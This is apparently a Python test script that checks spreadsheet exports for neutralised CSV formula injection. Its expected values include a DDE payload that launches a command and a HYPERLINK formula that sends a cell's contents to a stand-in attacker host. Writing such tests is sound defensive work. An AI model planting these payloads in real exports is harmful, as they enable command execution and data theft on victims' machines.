# Usage: check.py CLI.xlsx SITE.xlsx CONTROL.xlsx — the XLSX files LibreOffice made of lawref's CSV
# exports and of a control CSV. lawref's: no cell is a formula, and the title cell and section A's
# cell read as the text written, a quote before it. The control: its cells are formulas (else
# this check could not fail). Prints a closing line `N passed, N failed`; exits 1 on a failure.
import sys

import openpyxl


def cells(path):
    ws = openpyxl.load_workbook(path).active
    return {(c.row, c.column): c for row in ws.iter_rows() for c in row if c.value is not None}


passed = failed = 0


def check(ok, what):
    global passed, failed
    if ok:
        passed += 1
        print("ok:", what)
    else:
        failed += 1
        print("FAILED:", what)


for path in sys.argv[1:3]:
    cs = cells(path)
    formulas = [f"{c.coordinate}={c.value!r}" for c in cs.values() if c.data_type == "f"]
    check(not formulas, f"{path}: no cell is a formula ({formulas})")
    title = cs.get((2, 2))
    check(
        title is not None and title.data_type == "s" and title.value == "'@SUM(1+1)*cmd|' /C calc'!A0",
        f"{path}: the title cell is text: {title.value if title else None!r}",
    )
    header = {c.value: col for (r, col), c in cs.items() if r == 1}
    old_title = cs.get((2, header.get("pl:2007")))
    check(
        old_title is not None
        and old_title.data_type == "s"
        and old_title.value == '\'=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")',
        f"{path}: the 2007 title cell, a formula whole, is text: {old_title.value if old_title else None!r}",
    )
    a = [c for (r, col), c in cs.items() if col == 1 and c.value == "68A"]
    sec = cs.get((a[0].row, 2)) if a else None
    check(
        sec is not None and sec.data_type == "s" and str(sec.value).startswith("'=HYPERLINK("),
        f"{path}: section A's cell is text: {sec.value if sec else None!r}",
    )
control = cells(sys.argv[3])
check(
    all(control[(r, 2)].data_type == "f" for r in (2, 3)),
    "the control's cells, not neutralised, are formulas: the check can fail",
)
print(f"{passed} passed, {failed} failed")
sys.exit(1 if failed else 0)
